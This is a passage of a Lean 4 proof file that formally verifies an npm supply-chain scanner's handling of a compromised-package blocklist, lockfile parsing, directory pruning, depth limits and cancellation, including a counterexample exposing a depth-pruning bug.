        (fun r => r.severity == "HIGH") := by
  cases deps with
  | fnil => rfl
  | fcons n c rest =>
    have ih1 := walk_true_eq_filter bl targets c n (stack ++ [n]) proj
    have ih2 := walkF_true_eq_filter bl targets rest stack proj
    simp [walk_package_forest, List.filter_append, ih1, ih2]
end

/-- When npm is on PATH, the token is unset, the exit code is 0, stripped
stdout is non-empty, and stdout parses to a JSON object, the `npm ls` block
runs the walker on that object with root edge name `data.get("name", "")`
and breadcrumb `["root"]`. -/
theorem npm_ls_part_runs_walker (bl : Blocklist) (targets : List String)
    (decode : String → Option PkgNode) (code : Int) (out : String)
    (proj : String) (b : Bool) (name? version? : Option String)
    (deps : PkgForest) (h1 : decode out = some (PkgNode.node name? version? deps))
    (h2 : code = 0) (h3 : strTrim out ≠ "") :
    npm_ls_part bl targets decode true false code out proj b =
      walk_package_tree bl targets (PkgNode.node name? version? deps)
        (name?.getD "") ["root"] proj b := by
  simp [npm_ls_part, h1, h2, h3]

/-- C5: with `only_risk=False` the walker emits exactly one `npm:packages`
row per qualifying node occurrence (edge name non-empty and watched, version
present), with the item/severity/detail shape of the spec; a diamond
dependency reached via two paths yields two rows with distinct breadcrumb
details; and the root invocation (from the `npm ls` block) starts the
breadcrumb with the literal `"root"`. -/
theorem walk_package_tree_emissions :
    (∀ (bl : Blocklist) (targets : List String) (node : PkgNode) (nm : String)
        (stack : List String) (proj : String),
      walk_package_tree bl targets node nm stack proj false =
        (specNodeOccs targets node nm stack).map (occRow bl proj))
    ∧ walk_package_tree DEFAULT_BAD_PACKAGES defaultTargets diamondGraph
        "app" ["root"] "P" false =
      [add_row "npm:packages" "P" "chalk@5.6.1 [À RISQUE]" "root > a > chalk" "HIGH",
       add_row "npm:packages" "P" "chalk@5.6.1 [À RISQUE]" "root > b > chalk" "HIGH"]
    ∧ (∀ (bl : Blocklist) (targets : List String)
        (decode : String → Option PkgNode) (code : Int) (out : String)
        (proj : String) (b : Bool) (name? version? : Option String)
        (deps : PkgForest),
        decode out = some (PkgNode.node name? version? deps) → code = 0 →
        strTrim out ≠ "" →
        npm_ls_part bl targets decode true false code out proj b =
          walk_package_tree bl targets (PkgNode.node name? version? deps)
            (name?.getD "") ["root"] proj b) :=
  ⟨walk_eq_specOccs, by decide,
    fun bl targets decode code out proj b name? version? deps h1 h2 h3 =>
      npm_ls_part_runs_walker bl targets decode code out proj b name? version?
        deps h1 h2 h3⟩

/-- Witness for the hypotheses of `walk_package_tree_emissions`: a concrete
successful `npm ls` run hands the parsed tree to the walker with breadcrumb
`["root"]`. -/
theorem walk_package_tree_emissions_witness :
    npm_ls_part DEFAULT_BAD_PACKAGES defaultTargets
        (fun _ => some (PkgNode.node (some "app") (some "1.0.0") PkgForest.fnil))
        true false 0 "{}" "P" false =
      walk_package_tree DEFAULT_BAD_PACKAGES defaultTargets
        (PkgNode.node (some "app") (some "1.0.0") PkgForest.fnil)
        "app" ["root"] "P" false :=
  walk_package_tree_emissions.2.2 DEFAULT_BAD_PACKAGES defaultTargets
    (fun _ => some (PkgNode.node (some "app") (some "1.0.0") PkgForest.fnil))
    0 "{}" "P" false (some "app") (some "1.0.0") PkgForest.fnil
    rfl rfl (by decide)

/-- `only_risk=True` keeps exactly the `HIGH` rows of the lockfile-map scan. -/
theorem scan_lock_packages_true_eq_filter (bl : Blocklist)
    (targets : List String) (pkgs : List LockEntry) (proj : String) :
    scan_lock_packages bl targets pkgs proj true =
      (scan_lock_packages bl targets pkgs proj false).filter
        (fun r => r.severity == "HIGH") := by
  simp only [scan_lock_packages, List.filter_flatMap]
  congr 1
  funext entry
  rcases entry with ⟨path, meta⟩
  cases meta with
  | none => rfl
  | some nv =>
    rcases nv with ⟨name?, version?⟩
    cases name? with
    | none => cases version? <;> rfl
    | some name =>
      cases version? with
      | none => rfl
      | some version =>
        dsimp only
        cases hg : (name != "" && version != "" && targets.contains name) with
        | false => simp
        | true =>
          cases hc : is_compromised bl name version with
          | false => simp [hc, pkgRow, add_row]
          | true => simp [hc, pkgRow, add_row]

/-- `only_risk=True` keeps exactly the `HIGH` rows of the text-lockfile scan. -/
theorem scan_lock_text_true_eq_filter (bl : Blocklist) (targets : List String)
    (txt : String) (proj detail : String) :
    scan_lock_text bl targets txt proj detail true =
      (scan_lock_text bl targets txt proj detail false).filter
        (fun r => r.severity == "HIGH") := by
  simp only [scan_lock_text, List.filter_flatMap]
  congr 1
  funext name
  induction findAll name.data false txt.data with
  | nil => rfl
  | cons v vs ih =>
    simp only [List.filterMap_cons, Bool.not_true, Bool.false_or,
      Bool.not_false, Bool.true_or, if_true]
    cases hc : is_compromised bl name v with
    | false => simpa [hc, pkgRow, add_row] using ih
    | true => simpa [hc, pkgRow, add_row] using ih

/-- `only_risk=True` keeps exactly the `HIGH` rows of the `npm ls` block. -/
theorem npm_ls_part_true_eq_filter (bl : Blocklist) (targets : List String)
    (decode : String → Option PkgNode) (has_npm cancelled : Bool) (code : Int)
    (out : String) (proj : String) :
    npm_ls_part bl targets decode has_npm cancelled code out proj true =
      (npm_ls_part bl targets decode has_npm cancelled code out proj
          false).filter (fun r => r.severity == "HIGH") := by
  unfold npm_ls_part
  by_cases h1 : (has_npm && !cancelled) = true
  · simp only [h1, if_true]
    by_cases h2 : (strTrim out != "" && code == 0) = true
    · simp only [h2, if_true]
      cases hd : decode out with
      | none => rfl
      | some node =>
        cases node with
        | nonDict => rfl
        | node name? version? deps => exact walk_true_eq_filter ..
    · simp [h2]
  · simp [h1]

/-- The whole npm-project scan with `only_risk=True` produces a sublist of the
`only_risk=False` scan on the same inputs. -/
theorem scan_npm_project_true_sublist (bl : Blocklist) (targets : List String)
    (decode : String → Option PkgNode) (suspicious : String → Bool)
    (hash : String → String) (env : NpmEnv) (proj : String) (cs cc : Bool) :
    (scan_npm_project bl targets decode suspicious hash env proj true cs cc
        false).Sublist
      (scan_npm_project bl targets decode suspicious hash env proj false cs cc
        false) := by
  unfold scan_npm_project
  cases hp : env.pkg_exists with
  | false => simp
  | true =>
    simp only [hp, Bool.not_true, Bool.false_eq_true, if_false,
      Bool.not_false, if_true]
    refine List.Sublist.append (List.Sublist.append (List.Sublist.append
      (List.Sublist.append (List.Sublist.append ?_ ?_) ?_) ?_)
      (List.Sublist.refl _)) (List.Sublist.refl _)
    · rw [npm_ls_part_true_eq_filter]
      exact List.filter_sublist _
    · cases env.lock with
      | none => simp
      | some o =>
        cases o with
        | none => simp
        | some pkgs =>
          dsimp only
          rw [scan_lock_packages_true_eq_filter]
          exact List.filter_sublist _
    · cases env.yarn with
      | none => simp
      | some txt =>
        dsimp only
        rw [scan_lock_text_true_eq_filter]
        exact List.filter_sublist _
    · cases env.pnpm with
      | none => simp
      | some txt =>
        dsimp only
        rw [scan_lock_text_true_eq_filter]
        exact List.filter_sublist _

/-- C6: `only_risk=True` suppresses exactly the `INFO` rows of the
matcher-driven detectors (tree walker, lockfile-map scanner, text-lockfile
scanner) — each `only_risk=True` run equals the `HIGH`-filtered
`only_risk=False` run — and consequently the whole npm-project scan with
`only_risk=True` is a sublist of the `only_risk=False` scan on the same
input. -/
theorem only_risk_filters_info :
    (∀ (bl : Blocklist) (targets : List String) (node : PkgNode) (nm : String)
        (stack : List String) (proj : String),
      walk_package_tree bl targets node nm stack proj true =
        (walk_package_tree bl targets node nm stack proj false).filter
          (fun r => r.severity == "HIGH"))
    ∧ (∀ (bl : Blocklist) (targets : List String) (pkgs : List LockEntry)
        (proj : String),
      scan_lock_packages bl targets pkgs proj true =
        (scan_lock_packages bl targets pkgs proj false).filter
          (fun r => r.severity == "HIGH"))
    ∧ (∀ (bl : Blocklist) (targets : List String) (txt proj detail : String),
      scan_lock_text bl targets txt proj detail true =
        (scan_lock_text bl targets txt proj detail false).filter
          (fun r => r.severity == "HIGH"))
    ∧ (∀ (bl : Blocklist) (targets : List String)
        (decode : String → Option PkgNode) (suspicious : String → Bool)
        (hash : String → String) (env : NpmEnv) (proj : String) (cs cc : Bool),
      (scan_npm_project bl targets decode suspicious hash env proj true cs cc
          false).Sublist
        (scan_npm_project bl targets decode suspicious hash env proj false cs
          cc false)) :=
  ⟨walk_true_eq_filter, scan_lock_packages_true_eq_filter,
    scan_lock_text_true_eq_filter, scan_npm_project_true_sublist⟩

/-- Every blocklist key is in the computed watch set. -/
theorem mem_TARGETS_of_key (bl : Blocklist) (extra : List String) (n : String)
    (h : n ∈ blKeys bl) : n ∈ TARGETS bl extra := by
  unfold TARGETS
  rw [(List.perm_insertionSort strLe _).mem_iff, List.mem_dedup]
  exact List.mem_append_left _ h

/-- `pkgRow` of a compromised pair is a `HIGH` row. -/
theorem pkgRow_severity_high (bl : Blocklist) (proj nm v d : String)
    (hc : is_compromised bl nm v = true) :
    (pkgRow bl proj nm v d).severity = "HIGH" := by
  simp [pkgRow, add_row, hc]

/-- A node carrying a blocklisted `name@version` always produces its row,
in either `only_risk` mode, when the watch set is `TARGETS`. -/
theorem walk_emits_compromised (bl : Blocklist) (extra : List String)
    (nm v : String) (name? : Option String) (deps : PkgForest)
    (stack : List String) (proj : String) (b : Bool)
    (hc : is_compromised bl nm v = true) (hnm : nm ≠ "") (hv : v ≠ "") :
    pkgRow bl proj nm v (joinWith " > " stack)
      ∈ walk_package_tree bl (TARGETS bl extra)
          (PkgNode.node name? (some v) deps) nm stack proj b := by
  have hkey : nm ∈ blKeys bl := ((is_compromised_eq_true_iff bl nm v).mp hc).1
  have hmem : nm ∈ TARGETS bl extra := mem_TARGETS_of_key bl extra nm hkey
  have hcont : (TARGETS bl extra).contains nm = true := by simpa using hmem
  have hhit : watchedHit (TARGETS bl extra) nm (some v) = some v := by
    simp [watchedHit, hnm, hv, hcont, hmem]
  simp only [walk_package_tree, hhit, hc, Bool.or_true, if_true]
  exact List.mem_append_left _ (List.mem_singleton.mpr rfl)

/-- A `package-lock.json` entry carrying a blocklisted `name@version` always
produces its row, in either `only_risk` mode, when the watch set is
`TARGETS`. -/
theorem lock_emits_compromised (bl : Blocklist) (extra : List String)
    (pkgs : List LockEntry) (path nm v proj : String) (b : Bool)
    (hin : ((path, some (some nm, some v)) : LockEntry) ∈ pkgs)
    (hc : is_compromised bl nm v = true) (hnm : nm ≠ "") (hv : v ≠ "") :
    pkgRow bl proj nm v path
      ∈ scan_lock_packages bl (TARGETS bl extra) pkgs proj b := by
  have hkey : nm ∈ blKeys bl := ((is_compromised_eq_true_iff bl nm v).mp hc).1
  have hmem : nm ∈ TARGETS bl extra := mem_TARGETS_of_key bl extra nm hkey
  have hcont : (TARGETS bl extra).contains nm = true := by simpa using hmem
  unfold scan_lock_packages
  refine List.mem_flatMap.mpr ⟨(path, some (some nm, some v)), hin, ?_⟩
  simp [hnm, hv, hcont, hmem, hc]

/-- C9: `TARGETS` always contains every blocklist key, so the watch-set gate
can never suppress a compromised package: a dependency-graph node or a
lockfile entry carrying a blocklisted `name@version` yields its (HIGH) row in
both `only_risk` modes. -/
theorem targets_cover_blocklist :
    (∀ (bl : Blocklist) (extra : List String) (n : String),
      n ∈ blKeys bl → n ∈ TARGETS bl extra)
    ∧ (∀ (bl : Blocklist) (extra : List String) (nm v : String)
        (name? : Option String) (deps : PkgForest) (stack : List String)
        (proj : String) (b : Bool),
      is_compromised bl nm v = true → nm ≠ "" → v ≠ "" →
        pkgRow bl proj nm v (joinWith " > " stack)
            ∈ walk_package_tree bl (TARGETS bl extra)
                (PkgNode.node name? (some v) deps) nm stack proj b
          ∧ (pkgRow bl proj nm v (joinWith " > " stack)).severity = "HIGH")
    ∧ (∀ (bl : Blocklist) (extra : List String) (pkgs : List LockEntry)
        (path nm v proj : String) (b : Bool),
      ((path, some (some nm, some v)) : LockEntry) ∈ pkgs →
        is_compromised bl nm v = true → nm ≠ "" → v ≠ "" →
          pkgRow bl proj nm v path
              ∈ scan_lock_packages bl (TARGETS bl extra) pkgs proj b
            ∧ (pkgRow bl proj nm v path).severity = "HIGH") :=
  ⟨mem_TARGETS_of_key,
    fun bl extra nm v name? deps stack proj b hc hnm hv =>
      ⟨walk_emits_compromised bl extra nm v name? deps stack proj b hc hnm hv,
        pkgRow_severity_high bl proj nm v _ hc⟩,
    fun bl extra pkgs path nm v proj b hin hc hnm hv =>
      ⟨lock_emits_compromised bl extra pkgs path nm v proj b hin hc hnm hv,
        pkgRow_severity_high bl proj nm v _ hc⟩⟩

/-- Witness for `targets_cover_blocklist`: `chalk@5.6.1` from the default
blocklist is emitted as a `HIGH` row by the walker and by the lockfile-map
scanner even with `only_risk=True`. -/
theorem targets_cover_blocklist_witness :
    ("chalk" ∈ blKeys DEFAULT_BAD_PACKAGES →
      "chalk" ∈ TARGETS DEFAULT_BAD_PACKAGES DEFAULT_EXTRA_TARGETS)
    ∧ (pkgRow DEFAULT_BAD_PACKAGES "P" "chalk" "5.6.1" (joinWith " > " ["root"])
          ∈ walk_package_tree DEFAULT_BAD_PACKAGES
              (TARGETS DEFAULT_BAD_PACKAGES DEFAULT_EXTRA_TARGETS)
              (PkgNode.node none (some "5.6.1") PkgForest.fnil) "chalk" ["root"]
              "P" true
        ∧ (pkgRow DEFAULT_BAD_PACKAGES "P" "chalk" "5.6.1"
            (joinWith " > " ["root"])).severity = "HIGH")
    ∧ (pkgRow DEFAULT_BAD_PACKAGES "P" "chalk" "5.6.1" "node_modules/chalk"
          ∈ scan_lock_packages DEFAULT_BAD_PACKAGES
              (TARGETS DEFAULT_BAD_PACKAGES DEFAULT_EXTRA_TARGETS)
              [("node_modules/chalk", some (some "chalk", some "5.6.1"))] "P"
              true
        ∧ (pkgRow DEFAULT_BAD_PACKAGES "P" "chalk" "5.6.1"
            "node_modules/chalk").severity = "HIGH") :=
  ⟨targets_cover_blocklist.1 DEFAULT_BAD_PACKAGES DEFAULT_EXTRA_TARGETS "chalk",
    targets_cover_blocklist.2.1 DEFAULT_BAD_PACKAGES DEFAULT_EXTRA_TARGETS
      "chalk" "5.6.1" none PkgForest.fnil ["root"] "P" true (by decide)
      (by decide) (by decide),
    targets_cover_blocklist.2.2 DEFAULT_BAD_PACKAGES DEFAULT_EXTRA_TARGETS
      [("node_modules/chalk", some (some "chalk", some "5.6.1"))]
      "node_modules/chalk" "chalk" "5.6.1" "P" true (List.mem_singleton.mpr rfl)
      (by decide) (by decide) (by decide)⟩

/-- The pruning decision, characterised as the spec states it: a child is
kept iff (it is not excluded, or it is an `extensions` directory whose parent
is not `.vscode`) and it is not an `extensions` directory under `.vscode`. -/
theorem keepChild_iff (excl : List String) (parent d : String) :
    keepChild excl parent d = true ↔
      ((strLower d ∉ excl ∧ strLower d ∉ BUILTIN_EXCLUDED)
          ∨ (strLower d = "extensions" ∧ strLower parent ≠ ".vscode"))
        ∧ ¬(strLower d = "extensions" ∧ strLower parent = ".vscode") := by
  unfold keepChild
  cases hb : (excl.contains (strLower d) || BUILTIN_EXCLUDED.contains (strLower d)) with
  | true =>
    have h1 : strLower d ∈ excl ∨ strLower d ∈ BUILTIN_EXCLUDED := by
      simpa using hb
    simp only [hb, if_true]
    simp only [Bool.and_eq_true, beq_iff_eq, bne_iff_ne]
    constructor
    · rintro ⟨he, hp⟩
      exact ⟨Or.inr ⟨he, hp⟩, fun hcon => hp hcon.2⟩
    · rintro ⟨hor, hnot⟩
      rcases hor with ⟨hn1, hn2⟩ | ⟨he, hp⟩
      · rcases h1 with h | h
        · exact absurd h hn1
        · exact absurd h hn2
      · exact ⟨he, hp⟩
  | false =>
    have h1 : strLower d ∉ excl ∧ strLower d ∉ BUILTIN_EXCLUDED := by
      simp only [Bool.or_eq_false_iff] at hb
      constructor
      · simpa using hb.1
      · simpa using hb.2
    simp only [hb, Bool.false_eq_true, if_false]
    simp only [Bool.not_eq_true', Bool.and_eq_false_iff]
    constructor
    · intro hk
      refine ⟨Or.inl h1, ?_⟩
      rintro ⟨he, hp⟩
      rcases hk with hk | hk
      · exact absurd he (by simpa using hk)
      · exact absurd hp (by simpa using hk)
    · rintro ⟨-, hnot⟩
      by_cases he : strLower d = "extensions"
      · right
        have hp : strLower parent ≠ ".vscode" := fun hp => hnot ⟨he, hp⟩
        simpa using hp
      · left
        simpa using he

/-- C7: the child-pruning rule of the project walk: an excluded name is
pruned unless it is `extensions` with a parent other than `.vscode`; an
`extensions` child of a `.vscode` parent is always pruned.  Consequently,
with `node_modules` excluded, `root/node_modules/package.json` yields no
project; `root/.vscode/extensions` is never descended into; and
`root/src/extensions` is descended into (even when `extensions` itself is in
the configured exclusion set). -/
theorem pruning_spec :
    (∀ (excl : List String) (parent d : String),
      keepChild excl parent d = true ↔
        ((strLower d ∉ excl ∧ strLower d ∉ BUILTIN_EXCLUDED)
            ∨ (strLower d = "extensions" ∧ strLower parent ≠ ".vscode"))
          ∧ ¬(strLower d = "extensions" ∧ strLower parent = ".vscode"))
    ∧ scan_projects_under_root treeNodeModules ["node_modules"] 6 = [[]]
    ∧ scan_projects_under_root treeVscode [] 6 = []
    ∧ scan_projects_under_root treeSrcExtensions [] 6
        = [["src", "extensions", "foo"]]
    ∧ scan_projects_under_root treeSrcExtensions ["extensions"] 6
        = [["src", "extensions", "foo"]] :=
  ⟨keepChild_iff, by decide, by decide, by decide, by decide⟩

mutual
/-- Every project the walk reports lies at depth at most `maxd`: a directory
whose depth exceeds `maxd` is neither descended into nor has its own files
processed. -/
theorem visitDir_depth_le (excl : List String) (maxd : Nat) (t : DirTree)
    (depth : Nat) (path : List String) (hlen : path.length = depth) :
    ∀ p ∈ visitDir excl maxd t depth path, p.length ≤ maxd := by
  cases t with
  | mk name subdirs files =>
    intro p hp
    rw [visitDir] at hp
    by_cases hd : depth > maxd
    · simp [hd] at hp
    · simp only [hd, if_false] at hp
      rcases List.mem_append.mp hp with hp | hp
      · have hppath : p = path := by
          cases hpk : (files.map strLower).contains "package.json" with
          | true =>
            rw [hpk] at hp
            simpa using hp
          | false =>
            rw [hpk] at hp
            simp at hp
        rw [hppath, hlen]
        omega
      · exact visitForest_depth_le excl maxd name subdirs (depth + 1) path
          (by omega) p hp

/-- Forest form of `visitDir_depth_le`. -/
theorem visitForest_depth_le (excl : List String) (maxd : Nat)
    (parentName : String) (ds : DirForest) (childDepth : Nat)
    (path : List String) (hcd : path.length + 1 = childDepth) :
    ∀ p ∈ visitForest excl maxd parentName ds childDepth path,
      p.length ≤ maxd := by
  cases ds with
  | dnil =>
    intro p hp
    rw [visitForest] at hp
    simp at hp
  | dcons c rest =>
    intro p hp
    rw [visitForest] at hp
    rcases List.mem_append.mp hp with hp | hp
    · cases hk : keepChild excl parentName c.name with
      | true =>
        rw [hk] at hp
        simp only [if_true] at hp
        exact visitDir_depth_le excl maxd c childDepth (path ++ [c.name])
          (by simp [List.length_append]; omega) p hp
      | false =>
        rw [hk] at hp
        simp at hp
    · exact visitForest_depth_le excl maxd parentName rest childDepth path
        hcd p hp
end

/-- C1 counterexample: with `max_depth=0`, the directory `root/a` (depth 1,
exceeding `max_depth`) is visited, contains `package.json`, yet is NOT
recognized as a project — the `continue` after `dirnames[:] = []`
(common.py:237-239) also skips the `package.json` detection.  The same tree
at `max_depth=1` shows the manifest is otherwise discoverable. -/
theorem depth_prune_counterexample :
    ["a"] ∉ scan_projects_under_root treeDeep [] 0
      ∧ scan_projects_under_root treeDeep [] 0 = []
      ∧ scan_projects_under_root treeDeep [] 1 = [["a"]] := by decide

/-- C1 (amended): a visited directory whose depth relative to root exceeds
`max_depth` is pruned entirely — no subdirectory of it is descended into and
its own files are NOT processed (its `package.json` is not recognized) — so
every reported project lies at depth at most `max_depth`. -/
theorem depth_prune_amended (root : DirTree) (excl : List String)
    (maxd : Nat) (p : List String)
    (hp : p ∈ scan_projects_under_root root excl maxd) : p.length ≤ maxd :=
  visitDir_depth_le _ maxd root 0 [] rfl p hp

/-- Witness for `depth_prune_amended` at a concrete tree. -/
theorem depth_prune_amended_witness : (["a"] : List String).length ≤ 1 :=
  depth_prune_amended treeDeep [] 1 ["a"] (by decide)

/-- Once the token is observed set, all remaining steps are skipped: they
contribute no rows. -/
theorem runSteps_rows_nil_of_cancelled (cancel : Nat → Bool)
    (hm : MonotoneCancel cancel) :
    ∀ (ss : List Step) (t : Nat), cancel t = true →
      (runSteps cancel ss t).1 = [] := by
  intro ss
  induction ss with
  | nil => intro t _; rfl
  | cons s ss ih =>
    intro t ht
    simp only [runSteps, ht, if_true]
    exact ih (t + 1) (hm t (t + 1) (Nat.le_succ t) ht)

/-- One step's units: the poll counter does not decrease, the collected rows
are an initial segment of the full unit output, and either the step completed
or the token was observed set by the final poll instant. -/
theorem runUnits_spec (cancel : Nat → Bool) (hm : MonotoneCancel cancel) :
    ∀ (us : List (List Finding)) (t : Nat),
      t ≤ (runUnits cancel us t).2
      ∧ (∃ rest, us.flatten = (runUnits cancel us t).1 ++ rest)
      ∧ ((runUnits cancel us t).1 = us.flatten
          ∨ cancel (runUnits cancel us t).2 = true) := by
  intro us
  induction us with
  | nil =>
    intro t
    exact ⟨le_refl t, ⟨[], by simp [runUnits]⟩, Or.inl rfl⟩
  | cons u us ih =>
    intro t
    cases hc : cancel t with
    | true =>
      simp only [runUnits, hc, if_true]
      exact ⟨Nat.le_succ t, ⟨(u :: us).flatten, rfl⟩,
        Or.inr (hm t (t + 1) (Nat.le_succ t) hc)⟩
    | false =>
      simp only [runUnits, hc, Bool.false_eq_true, if_false]
      obtain ⟨h1, ⟨rest, hrest⟩, h3⟩ := ih (t + 1)
      refine ⟨le_trans (Nat.le_succ t) h1, ⟨rest, ?_⟩, ?_⟩
      · simp only [List.flatten_cons, hrest, List.append_assoc]
      · rcases h3 with h3 | h3
        · exact Or.inl (by simp [List.flatten_cons, h3])
        · exact Or.inr h3

/-- The rows of a (possibly cancelled) run are an initial segment of the
uncancelled rows: nothing collected is ever discarded, and nothing out of
order is produced. -/
theorem runSteps_rows_le_full (cancel : Nat → Bool)
    (hm : MonotoneCancel cancel) :
    ∀ (ss : List Step) (t : Nat),
      ∃ rest, fullRows ss = (runSteps cancel ss t).1 ++ rest := by
  intro ss
  induction ss with
  | nil => intro t; exact ⟨[], rfl⟩
  | cons s ss ih =>
    intro t
    cases hc : cancel t with
    | true =>
      refine ⟨fullRows (s :: ss), ?_⟩
      simp only [runSteps, hc, if_true]
      rw [runSteps_rows_nil_of_cancelled cancel hm ss (t + 1)
        (hm t (t + 1) (Nat.le_succ t) hc)]
      rfl
    | false =>
      cases he : s.enabled with
      | true =>
        simp only [runSteps, hc, Bool.false_eq_true, if_false, he, if_true]
        obtain ⟨-, ⟨r1, hr1⟩, h3⟩ := runUnits_spec cancel hm s.units (t + 1)
        obtain ⟨r2, hr2⟩ := ih (runUnits cancel s.units (t + 1)).2
        rcases h3 with h3 | h3
        · refine ⟨r2, ?_⟩
          simp only [fullRows, he, if_true, hr2, h3, List.append_assoc]
        · have hnil := runSteps_rows_nil_of_cancelled cancel hm ss
            (runUnits cancel s.units (t + 1)).2 h3
          refine ⟨r1 ++ fullRows ss, ?_⟩
          simp only [fullRows, he, if_true, hr1, hnil, List.append_nil,
            List.append_assoc]
      | false =>
        simp only [runSteps, hc, Bool.false_eq_true, if_false, he]
        obtain ⟨r2, hr2⟩ := ih (t + 1)
        exact ⟨r2, by simp [fullRows, he, hr2]⟩

/-- An uncancelled step yields all its units. -/
theorem runUnits_noCancel (us : List (List Finding)) :
    ∀ t, (runUnits noCancel us t).1 = us.flatten := by
  induction us with
  | nil => intro t; rfl
  | cons u us ih =>
    intro t
    simp only [runUnits, noCancel, Bool.false_eq_true, if_false,
      List.flatten_cons, ih (t + 1)]

/-- An uncancelled run collects exactly `fullRows`. -/
theorem runSteps_noCancel (ss : List Step) :
    ∀ t, (runSteps noCancel ss t).1 = fullRows ss := by
  induction ss with
  | nil => intro t; rfl
  | cons s ss ih =>
    intro t
    cases he : s.enabled with
    | true =>
      simp only [runSteps, noCancel, Bool.false_eq_true, if_false, he,
        if_true, fullRows, runUnits_noCancel, ih]
    | false =>
      simp only [runSteps, noCancel, Bool.false_eq_true, if_false, he,
        fullRows, ih (t + 1)]
      rfl

/-- C2: with a set-once token, (a) a token set before the first poll skips
every step and returns an empty result with `total = 0`; (b) the collected
rows of a cancelled run form an initial segment of the uncancelled run's
rows — previously collected findings are never discarded; (c) every collected
finding is preserved in the returned sorted result; (d) the cancelled total
is at most the uncancelled total (and at least 0 by type). -/
theorem run_scan_core_cancellation (steps : List Step) (cancel : Nat → Bool)
    (hm : MonotoneCancel cancel) :
    (cancel 0 = true →
        run_scan_core steps cancel = ([], { total := 0, high := 0 }))
    ∧ (∃ rest, collectedRows steps noCancel = collectedRows steps cancel ++ rest)
    ∧ (∀ f ∈ collectedRows steps cancel, f ∈ (run_scan_core steps cancel).1)
    ∧ (run_scan_core steps cancel).2.total ≤
        (run_scan_core steps noCancel).2.total := by
  have hfull : collectedRows steps noCancel = fullRows steps :=
    runSteps_noCancel steps 0
  obtain ⟨rest, hrest⟩ := runSteps_rows_le_full cancel hm steps 0
  refine ⟨?_, ?_, ?_, ?_⟩
  · intro h0
    have hrows := runSteps_rows_nil_of_cancelled cancel hm steps 0 h0
    simp only [run_scan_core, hrows]
    rfl
  · exact ⟨rest, by rw [hfull, hrest]; rfl⟩
  · intro f hf
    exact (List.perm_insertionSort rowOrd _).mem_iff.mpr hf
  · show (sortFindings (collectedRows steps cancel)).length ≤
      (sortFindings (collectedRows steps noCancel)).length
    unfold sortFindings
    rw [(List.perm_insertionSort rowOrd _).length_eq,
      (List.perm_insertionSort rowOrd _).length_eq, hfull, hrest]
    simp [collectedRows]

/-- Witness for `run_scan_core_cancellation`: two enabled steps, a token set
between the second and third poll — the run keeps the one row collected
before the observing poll and its total is below the uncancelled total. -/
theorem run_scan_core_cancellation_witness :
    ((demoCancel 0 = true →
        run_scan_core demoSteps demoCancel = ([], { total := 0, high := 0 }))
      ∧ (∃ rest, collectedRows demoSteps noCancel =
          collectedRows demoSteps demoCancel ++ rest)
      ∧ (∀ f ∈ collectedRows demoSteps demoCancel,
          f ∈ (run_scan_core demoSteps demoCancel).1)
      ∧ (run_scan_core demoSteps demoCancel).2.total ≤
          (run_scan_core demoSteps noCancel).2.total)
    ∧ collectedRows demoSteps demoCancel = [rowA]
    ∧ (run_scan_core demoSteps demoCancel).2.total = 1
    ∧ (run_scan_core demoSteps noCancel).2.total = 3 :=
  ⟨run_scan_core_cancellation demoSteps demoCancel
      (fun i j hij hi =>
        decide_eq_true (le_trans (of_decide_eq_true hi) hij)),
    by decide, by decide, by decide⟩

/-- C3: on every completion (any token), the returned list is sorted
ascending by the four-field code-point key (`rowOrd`), re-sorting it is the
identity (idempotence, also stated for arbitrary row lists), and the summary
is exactly `{total: length, high: count of Severity == "HIGH"}`; the order is
case-sensitive: an item starting with `B` (code point 66) sorts before one
starting with `a` (code point 97). -/
theorem run_scan_core_sorted_summary :
    (∀ (steps : List Step) (cancel : Nat → Bool),
      List.Sorted rowOrd (run_scan_core steps cancel).1
      ∧ sortFindings (run_scan_core steps cancel).1
          = (run_scan_core steps cancel).1
      ∧ (run_scan_core steps cancel).2
          = { total := (run_scan_core steps cancel).1.length,
              high := countHigh (run_scan_core steps cancel).1 })
    ∧ (∀ rows : List Finding,
        sortFindings (sortFindings rows) = sortFindings rows)
    ∧ sortFindings [add_row "" "" "a" "" "INFO", add_row "" "" "B" "" "INFO"]
        = [add_row "" "" "B" "" "INFO", add_row "" "" "a" "" "INFO"] := by
  refine ⟨?_, ?_, by decide⟩
  · intro steps cancel
    exact ⟨List.sorted_insertionSort rowOrd _,
      (List.sorted_insertionSort rowOrd _).insertionSort_eq, rfl⟩
  · intro rows
    exact (List.sorted_insertionSort rowOrd _).insertionSort_eq

/-- A non-zero `npm ls` exit code silences the tree walk, whatever stdout
holds. -/
theorem npm_ls_part_skip_nonzero (bl : Blocklist) (targets : List String)
    (decode : String → Option PkgNode) (has_npm cancelled : Bool) (code : Int)
    (out : String) (proj : String) (b : Bool) (hcode : code ≠ 0) :
    npm_ls_part bl targets decode has_npm cancelled code out proj b = [] := by
  unfold npm_ls_part
  have hb : (code == 0) = false := by simpa using hcode
  simp [hb]

/-- `scan_npm_project` is the `npm ls` block followed by the same scan with
npm absent: the non-npm checks do not depend on the npm invocation. -/
theorem scan_npm_project_decomposes (bl : Blocklist) (targets : List String)
    (decode : String → Option PkgNode) (suspicious : String → Bool)
    (hash : String → String) (env : NpmEnv) (proj : String) (b cs cc : Bool)
    (hpkg : env.pkg_exists = true) :
    scan_npm_project bl targets decode suspicious hash env proj b cs cc false =
      npm_ls_part bl targets decode env.has_npm false env.npm_code env.npm_out
          proj b
        ++ scan_npm_project bl targets decode suspicious hash
            { env with has_npm := false } proj b cs cc false := by
  unfold scan_npm_project
  simp only [hpkg]
  have hfalse : npm_ls_part bl targets decode false false env.npm_code
      env.npm_out proj b = [] := rfl
  simp [hfalse]

/-- With npm absent, the scan does not read the npm exit code or stdout. -/
theorem scan_npm_project_rest_independent (bl : Blocklist)
    (targets : List String) (decode : String → Option PkgNode)
    (suspicious : String → Bool) (hash : String → String) (env : NpmEnv)
    (proj : String) (b cs cc cn : Bool) (c' : Int) (o' : String) :
    scan_npm_project bl targets decode suspicious hash
        { env with has_npm := false, npm_code := c', npm_out := o' }
        proj b cs cc cn =
      scan_npm_project bl targets decode suspicious hash
        { env with has_npm := false } proj b cs cc cn := rfl

/-- C10: the `npm ls` dependency-tree check runs the walker only when the
command exits 0, its stripped stdout is non-empty, and the stdout parses to a
JSON object; a non-zero exit code silently skips the tree walk even when
stdout is a valid JSON tree, while the lockfile and script checks still run
(the rest of the scan is independent of the npm invocation). -/
theorem npm_ls_gating :
    (∀ (bl : Blocklist) (targets : List String)
        (decode : String → Option PkgNode) (has_npm cancelled : Bool)
